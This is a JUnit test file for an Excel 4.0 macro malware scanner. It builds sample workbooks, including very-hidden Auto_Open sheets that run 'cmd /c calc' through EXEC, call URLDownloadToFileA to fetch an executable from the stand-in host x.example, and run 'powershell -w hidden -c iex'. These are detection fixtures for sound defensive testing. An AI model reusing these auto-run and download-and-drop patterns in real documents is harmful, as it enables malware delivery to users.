package dev.prefilter.engine.office.xlm;

import static dev.prefilter.engine.office.BiffFixtures.CONCAT;
import static dev.prefilter.engine.office.BiffFixtures.func;
import static dev.prefilter.engine.office.BiffFixtures.funcVar;
import static dev.prefilter.engine.office.BiffFixtures.integer;
import static dev.prefilter.engine.office.BiffFixtures.str;
import static dev.prefilter.engine.office.BiffFixtures.tokens;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.prefilter.engine.model.Finding;
import dev.prefilter.engine.model.Severity;
import dev.prefilter.engine.model.Verdict;
import dev.prefilter.engine.office.BiffFixtures;
import dev.prefilter.engine.office.Golden;
import dev.prefilter.engine.office.MacroFixtures;
import dev.prefilter.engine.report.Report;
import dev.prefilter.engine.testing.TestEngines;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class XlmAnalyzerTest {

    private static final int EXEC = 110;
    private static final int CALL = 150;
    private static final int HALT = 54;
    private static final int CHAR = 111;
    private static final int ALERT_CETAB = 118;

    private static List<Finding> findings(Report report, String code) {
        return report.findings().stream().filter(f -> f.code().equals(code)).toList();
    }

    static byte[] droppingWorkbook() {
        List<byte[]> formulas = List.of(
                tokens(
                        integer(99),
                        func(CHAR),
                        integer(109),
                        func(CHAR),
                        CONCAT,
                        integer(100),
                        func(CHAR),
                        CONCAT,
                        str(" /c calc", true),
                        CONCAT,
                        funcVar(1, EXEC, false)),
                tokens(
                        str("urlmon", true),
                        str("URLDownloadToFileA", true),
                        str("JJCCJJ", true),
                        integer(0),
                        str("http://x.example/p.exe", true),
                        str("C:\\Users\\Public\\p.exe", true),
                        integer(0),
                        integer(0),
                        funcVar(8, CALL, false)),
                tokens(funcVar(0, HALT, false)));
        return BiffFixtures.xls(
                true,
                List.of(
                        new BiffFixtures.Sheet("Sheet1", 0, 0, List.of()),
                        new BiffFixtures.Sheet("Macro1", 1, 2, formulas)),
                List.of(new BiffFixtures.Name(null, 1)));
    }

    @Test
    void veryHiddenAutoOpenSheetThatExecsIsMalicious() throws Exception {
        Report report = TestEngines.scanFile("order.xls", droppingWorkbook());
        assertEquals(Verdict.MALICIOUS, report.verdict());
        Finding sheet = findings(report, "xlm.macro-sheet").get(0);
        assertEquals("Macro1", sheet.evidence().get("sheet"));
        assertEquals("very-hidden", sheet.evidence().get("state"));
        assertEquals("biff8", sheet.evidence().get("format"));
        assertEquals(
                "Auto_Open", findings(report, "xlm.auto-open").get(0).evidence().get("name"));
        assertEquals(
                "=Macro1!R1C1",
                findings(report, "xlm.auto-open").get(0).evidence().get("refersTo"));
        Finding rule = findings(report, "xlm.autoexec-execute").get(0);
        assertEquals(Severity.CRITICAL, rule.severity());
        assertEquals("EXEC", rule.evidence().get("action"));
        assertEquals(
                "=EXEC(CHAR(99)&CHAR(109)&CHAR(100)&\" /c calc\")",
                rule.evidence().get("formula"));
        assertEquals(
                "cmd /c calc",
                findings(report, "xlm.char-chain").get(0).evidence().get("decoded"));
        assertTrue(findings(report, "xlm.string").stream()
                .anyMatch(f -> "URLDownloadToFileA".equals(f.evidence().get("keyword"))));
        assertTrue(findings(report, "xlm.ioc").stream()
                .anyMatch(f -> "http://x.example/p.exe".equals(f.evidence().get("value"))));
        Golden.assertMatches("xlm_auto_open_exec_very_hidden", TestEngines.node(report, "order.xls"));
    }

    @Test
    void biff5AlertMacroWithAutoOpenIsSuspiciousNotMalicious() {
        List<byte[]> formulas =
                List.of(tokens(str("hello", false), funcVar(1, ALERT_CETAB, true)), tokens(funcVar(0, HALT, false)));
        byte[] xls = BiffFixtures.xls(
                false,
                List.of(new BiffFixtures.Sheet("Macro1", 1, 0, formulas)),
                List.of(new BiffFixtures.Name(null, 1)));
        Report report = TestEngines.scanFile("alert.xls", xls);
        assertEquals(Verdict.SUSPICIOUS, report.verdict(), report.findings().toString());
        assertEquals(
                "biff5", findings(report, "xlm.macro-sheet").get(0).evidence().get("format"));
        assertFalse(TestEngines.codes(report).contains("xlm.autoexec-execute"));
        assertFalse(TestEngines.codes(report).contains("xlm.hidden-sheet"));
        @SuppressWarnings("unchecked")
        Map<String, Object> xlm = (Map<String, Object>)
                TestEngines.node(report, "alert.xls").facts().get("xlm");
        String facts = xlm.toString();
        assertTrue(facts.contains("R1C1: =ALERT(\"hello\")"), facts);
        assertTrue(facts.contains("R2C1: =HALT()"), facts);
    }

    @Test
    void namesBeginningWithAutoOpenRunToo() {
        byte[] xls = BiffFixtures.xls(
                true,
                List.of(new BiffFixtures.Sheet("M", 1, 1, List.of(tokens(str("calc", true), funcVar(1, EXEC, false))))),
                List.of(new BiffFixtures.Name("auto_open_x1", 0)));
        Report report = TestEngines.scanFile("n.xls", xls);
        assertEquals(
                "auto_open_x1",
                findings(report, "xlm.auto-open").get(0).evidence().get("name"));
        assertEquals(Verdict.MALICIOUS, report.verdict());
    }

    @Test
    void manyCharChainsAreCappedNotOneFindingEach() {
        byte[] chain =
                tokens(integer(65), func(CHAR), integer(66), func(CHAR), CONCAT, integer(67), func(CHAR), CONCAT);
        List<byte[]> formulas = java.util.Collections.nCopies(60, chain);
        byte[] xls = BiffFixtures.xls(true, List.of(new BiffFixtures.Sheet("M", 1, 0, formulas)), List.of());
        List<Finding> chains = findings(TestEngines.scanFile("c.xls", xls), "xlm.char-chain");
        assertEquals(21, chains.size());
        assertEquals(40, chains.get(20).evidence().get("moreFormulas"));
        assertEquals("ABC", chains.get(0).evidence().get("decoded"));
    }

    @Test
    void workbookWithoutMacroSheetHasNoFinding() {
        byte[] xls = BiffFixtures.xls(
                true,
                List.of(new BiffFixtures.Sheet(
                        "Sheet1", 0, 0, List.of(tokens(integer(1), integer(2), new byte[] {0x03})))),
                List.of());
        Report report = TestEngines.scanFile("plain.xls", xls);
        assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
        assertTrue(report.findings().isEmpty(), report.findings().toString());
    }

    @Test
    void macroSheetWithoutFormulasIsInfo() {
        byte[] xls = BiffFixtures.xls(
                true,
                List.of(
                        new BiffFixtures.Sheet("Sheet1", 0, 0, List.of()),
                        new BiffFixtures.Sheet("Macro1", 1, 1, List.of())),
                List.of());
        Report report = TestEngines.scanFile("old-budget.xls", xls);
        assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
        assertEquals(List.of("xlm.empty-macro-sheet"), TestEngines.codes(report));
        assertEquals("hidden", report.findings().get(0).evidence().get("state"));
        // one formula on it makes it a macro sheet again
        byte[] withFormula = BiffFixtures.xls(
                true, List.of(new BiffFixtures.Sheet("Macro1", 1, 1, List.of(tokens(integer(1))))), List.of());
        assertTrue(TestEngines.codes(TestEngines.scanFile("m.xls", withFormula)).contains("xlm.macro-sheet"));
    }

    /** Embedded workbooks in PowerPoint files carry bytes after the last EOF; Excel ignores them. */
    @Test
    void bytesAfterTheLastSubstreamAreNotDamage() throws java.io.IOException {
        byte[] stream = BiffFixtures.workbookStream(
                true,
                List.of(new BiffFixtures.Sheet(
                        "Macro1", 1, 0, List.of(tokens(str("calc", true), funcVar(1, EXEC, false))))),
                List.of(new BiffFixtures.Name(null, 1)));
        byte[] trailing = java.util.Arrays.copyOf(stream, stream.length + 700);
        java.util.Arrays.fill(trailing, stream.length, trailing.length, (byte) 0xAB);
        try (var fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem()) {
            fs.createDocument(new java.io.ByteArrayInputStream(trailing), "Workbook");
            Report report = TestEngines.scanFile("embedded.xls", MacroFixtures.bytes(fs));
            List<String> codes = TestEngines.codes(report);
            assertFalse(codes.contains("parse.xlm"), codes.toString());
            assertTrue(codes.contains("xlm.autoexec-execute"), "the macro is still read whole: " + codes);
        }
    }

    /** A bare BIFF2/3/4 record stream as Excel 2.x-4.0 wrote it: BOF of the given sid and type, records, EOF. */
    private static byte[] legacyBiff(int bofSid, int type, byte[]... records) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        out.writeBytes(biffRecord(bofSid, MacroFixtures.le16(0), MacroFixtures.le16(type), MacroFixtures.le16(0)));
        for (byte[] r : records) out.writeBytes(r);
        out.writeBytes(biffRecord(0x000A));
        return out.toByteArray();
    }

    private static byte[] biffRecord(int sid, byte[]... parts) {
        java.io.ByteArrayOutputStream data = new java.io.ByteArrayOutputStream();
        for (byte[] p : parts) data.writeBytes(p);
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        out.writeBytes(MacroFixtures.le16(sid));
        out.writeBytes(MacroFixtures.le16(data.size()));
        out.writeBytes(data.toByteArray());
        return out.toByteArray();
    }

    /** BIFF4 FORMULA: row, column, XF, cached value, flags, cce, rgce. */
    private static byte[] biff4Formula(int row, byte[] rgce) {
        return biffRecord(
                0x0406,
                MacroFixtures.le16(row),
                MacroFixtures.le16(0),
                MacroFixtures.le16(0),
                new byte[8],
                MacroFixtures.le16(0),
                MacroFixtures.le16(rgce.length),
                rgce);
    }

    @Test
    void excel3And4WorksheetsAreReadAsBiffAndStayClean() {
        byte[] number =
                biffRecord(0x0203, MacroFixtures.le16(0), MacroFixtures.le16(0), MacroFixtures.le16(0), new byte[8]);
        for (int bof : new int[] {0x0209, 0x0409}) {
            Report report = TestEngines.scanFile("ledger.xls", legacyBiff(bof, 0x0010, number));
            assertTrue(
                    report.root().detectedType().startsWith("application/vnd.ms-excel.sheet."),
                    report.root().detectedType());
            assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
            assertTrue(report.findings().isEmpty(), report.findings().toString());
        }
    }

    @Test
    void excel4MacroSheetWithAutoOpenAndExecIsMalicious() {
        byte[] autoOpen = biffRecord(
                0x0218, MacroFixtures.le16(0x0020), new byte[] {0, 1}, MacroFixtures.le16(0), new byte[] {1});
        byte[] xlm = legacyBiff(
                0x0409, 0x0040, autoOpen, biff4Formula(0, tokens(str("calc", false), funcVar(1, EXEC, false))));
        Report report = TestEngines.scanFile("macro.xlm", xlm);
        List<String> codes = TestEngines.codes(report);
        assertTrue(
                codes.containsAll(List.of("xlm.macro-sheet", "xlm.auto-open", "xlm.autoexec-execute")),
                codes.toString());
        assertFalse(codes.contains("type.extension-mismatch"), codes.toString());
        assertEquals(
                "biff4", findings(report, "xlm.macro-sheet").get(0).evidence().get("format"));
        assertEquals(Verdict.MALICIOUS, report.verdict());
    }

    @Test
    void truncatedWorkbookStreamIsAParseFinding() {
        byte[] stream = BiffFixtures.workbookStream(
                true,
                List.of(new BiffFixtures.Sheet(
                        "Macro1", 1, 0, List.of(tokens(str("calc", true), funcVar(1, EXEC, false))))),
                List.of());
        byte[] cut = java.util.Arrays.copyOf(stream, stream.length - 3);
        try (var fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem()) {
            fs.createDocument(new java.io.ByteArrayInputStream(cut), "Workbook");
            Report report = TestEngines.scanFile("cut.xls", MacroFixtures.bytes(fs));
            assertTrue(
                    TestEngines.codes(report).contains("parse.xlm"),
                    report.findings().toString());
            assertTrue(TestEngines.codes(report).contains("xlm.macro-sheet"), "what was read is kept");
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Test
    void anXlsWithoutAWorkbookStreamIsAParseFindingNotClean() throws java.io.IOException {
        try (var fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem()) {
            // what a flipped byte in the directory leaves: the stream is there under a name Excel does not look for
            fs.createDocument(new java.io.ByteArrayInputStream(new byte[4096]), "Workbooj");
            Report report = TestEngines.scanFile("invoice.xls", MacroFixtures.bytes(fs));
            Finding parse = findings(report, "parse.xlm").get(0);
            assertTrue(parse.evidence().get("error").toString().contains("no Workbook or Book stream"));
            assertEquals(
                    Verdict.SUSPICIOUS,
                    report.verdict(),
                    TestEngines.codes(report).toString());
        }
    }

    static byte[] xlsm(String macroSheetXml, String state, String definedName, boolean binary) {
        String mainType = binary
                ? "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
                : "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
        String workbookPart = binary ? "xl/workbook.bin" : "xl/workbook.xml";
        String sheetPart = binary ? "xl/macrosheets/sheet1.bin" : "xl/macrosheets/sheet1.xml";
        String sheetType = binary ? "application/vnd.ms-excel.macrosheet" : "application/vnd.ms-excel.macrosheet+xml";
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put(
                "[Content_Types].xml",
                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types "
                                + "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                                + "<Default Extension=\"rels\" "
                                + "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                                + "<Override PartName=\"/" + workbookPart + "\" ContentType=\"" + mainType + "\"/>"
                                + "<Override PartName=\"/" + sheetPart + "\" ContentType=\"" + sheetType
                                + "\"/></Types>")
                        .getBytes(StandardCharsets.UTF_8));
        parts.put(
                "_rels/.rels",
                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
                                + "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + "<Relationship Id=\"rId1\" "
                                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                + "officeDocument\" Target=\""
                                + workbookPart + "\"/>"
                                + "</Relationships>")
                        .getBytes(StandardCharsets.UTF_8));
        parts.put(
                "xl/_rels/" + (binary ? "workbook.bin.rels" : "workbook.xml.rels"),
                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                                + "<Relationships "
                                + "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + "<Relationship Id=\"rId1\" "
                                + "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
                                + "Target=\"macrosheets/sheet1."
                                + (binary ? "bin" : "xml") + "\"/>"
                                + "</Relationships>")
                        .getBytes(StandardCharsets.UTF_8));
        if (binary) {
            parts.put(workbookPart, xlsbWorkbook());
            parts.put(sheetPart, xlsbMacroSheet());
        } else {
            parts.put(
                    workbookPart,
                    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\""
                                    + "http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
                                    + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                                    + "relationships\"><sheets>"
                                    + "<sheet name=\"Macro1\" sheetId=\"1\""
                                    + (state == null ? "" : " state=\"" + state + "\"") + " r:id=\"rId1\"/></sheets>"
                                    + (definedName == null
                                            ? ""
                                            : "<definedNames><definedName name=\"" + definedName
                                                    + "\">Macro1!$A$1</definedName></definedNames>")
                                    + "</workbook>")
                            .getBytes(StandardCharsets.UTF_8));
            parts.put(sheetPart, macroSheetXml.getBytes(StandardCharsets.UTF_8));
        }
        return MacroFixtures.zip(parts);
    }

    /** BIFF12 record: type and size as 7-bit varints, then the data. */
    private static void biff12(java.io.ByteArrayOutputStream out, int type, byte[] data) {
        for (int t = type; ; ) {
            int b = t & 0x7f;
            t >>>= 7;
            out.write(t == 0 ? b : b | 0x80);
            if (t == 0) break;
        }
        for (int n = data.length; ; ) {
            int b = n & 0x7f;
            n >>>= 7;
            out.write(n == 0 ? b : b | 0x80);
            if (n == 0) break;
        }
        out.writeBytes(data);
    }

    private static byte[] wide(String s) {
        return tokens(MacroFixtures.le32(s.length()), s.getBytes(StandardCharsets.UTF_16LE));
    }

    /** BrtBundleSh for Macro1 (very hidden, relationship rId1) and a BrtName record spelling Auto_Open. */
    static byte[] xlsbWorkbook() {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        biff12(out, 131, new byte[0]);
        biff12(out, 156, tokens(MacroFixtures.le32(2), MacroFixtures.le32(1), wide("rId1"), wide("Macro1")));
        biff12(
                out,
                39,
                tokens(
                        MacroFixtures.le32(0x20),
                        new byte[] {0},
                        MacroFixtures.le32(0xffffffffL),
                        wide("Auto_Open"),
                        MacroFixtures.le32(0)));
        biff12(out, 132, new byte[0]);
        return out.toByteArray();
    }

    /**
     * A row header and a BrtFmlaBool in A1 holding EXEC("calc.exe") in BIFF12 tokens (PtgStr: 2-byte
     * length, UTF-16).
     */
    static byte[] xlsbMacroSheet() {
        byte[] rgce = tokens(
                new byte[] {0x17},
                MacroFixtures.le16(8),
                "calc.exe".getBytes(StandardCharsets.UTF_16LE),
                funcVar(1, EXEC, false));
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        biff12(out, 129, new byte[0]);
        biff12(out, 0, tokens(MacroFixtures.le32(0), new byte[13]));
        biff12(
                out,
                10,
                tokens(
                        MacroFixtures.le32(0),
                        MacroFixtures.le32(0),
                        new byte[] {0},
                        MacroFixtures.le16(0),
                        MacroFixtures.le32(rgce.length),
                        rgce,
                        MacroFixtures.le32(0)));
        biff12(out, 130, new byte[0]);
        return out.toByteArray();
    }

    private static final String EXEC_SHEET = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><xm:macrosheet "
            + "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
            + "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
            + "<row r=\"1\"><c r=\"A1\"><f>GET.WORKSPACE(1)</f></c></row>"
            + "<row r=\"2\"><c r=\"A2\"><f>EXEC(\"powershell -w hidden -c iex\")</f></c></row>"
            + "<row r=\"3\"><c r=\"A3\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>";

    @Test
    void xlsmMacroSheetWithAutoOpenAndExecIsMalicious() {
        Report report = TestEngines.scanFile("quote.xlsm", xlsm(EXEC_SHEET, "veryHidden", "_xlnm.Auto_Open", false));
        assertEquals(Verdict.MALICIOUS, report.verdict(), report.findings().toString());
        Finding sheet = findings(report, "xlm.macro-sheet").get(0);
        assertEquals("Macro1", sheet.evidence().get("sheet"));
        assertEquals("very-hidden", sheet.evidence().get("state"));
        assertEquals("xlsm", sheet.evidence().get("format"));
        assertTrue(findings(report, "xlm.function").stream()
                .anyMatch(f -> "GET.WORKSPACE".equals(f.evidence().get("keyword"))));
        assertEquals(
                "A2", findings(report, "xlm.autoexec-execute").get(0).evidence().get("cell"));
    }

    @Test
    void xlsbMacroSheetIsFoundWithItsStateAndFormulas() {
        Report report = TestEngines.scanFile("b.xlsb", xlsm(null, null, null, true));
        Finding sheet = findings(report, "xlm.macro-sheet").get(0);
        assertEquals("xlsb", sheet.evidence().get("format"));
        assertEquals("Macro1", sheet.evidence().get("sheet"));
        assertEquals("very-hidden", sheet.evidence().get("state"));
        Finding rule = findings(report, "xlm.autoexec-execute").get(0);
        assertEquals("=EXEC(\"calc.exe\")", rule.evidence().get("formula"));
        assertEquals("R1C1", rule.evidence().get("cell"));
        assertEquals(Verdict.MALICIOUS, report.verdict());
    }

    @Test
    void sylkWithAutoOpenAndExecIsMalicious() {
        String slk = "ID;PWXL;N;E\r\nO;L;E;D;V0;K47;G100 0.001\r\nNN;NAuto_open;ER1C1\r\nC;Y1;X1;K0;EEXEC(\"cmd "
                + "/c calc\")\r\nC;Y2;K0;EHALT()\r\nE\r\n";
        Report report = TestEngines.scanFile("x.slk", slk.getBytes(StandardCharsets.ISO_8859_1));
        assertEquals(Verdict.MALICIOUS, report.verdict(), report.findings().toString());
        assertEquals(
                "slk", findings(report, "xlm.macro-sheet").get(0).evidence().get("format"));
        assertFalse(TestEngines.codes(report).contains("type.macro-capable-uninspected"));
    }

    @Test
    void plainSylkDataStaysClean() {
        String slk = "ID;PWXL;N;E\r\nC;Y1;X1;K42\r\nC;Y1;X2;K43;ESUM(R1C1,1)\r\nE\r\n";
        Report report = TestEngines.scanFile("data.slk", slk.getBytes(StandardCharsets.ISO_8859_1));
        assertTrue(
                report.findings().stream().noneMatch(f -> f.code().startsWith("xlm.")),
                report.findings().toString());
    }
}
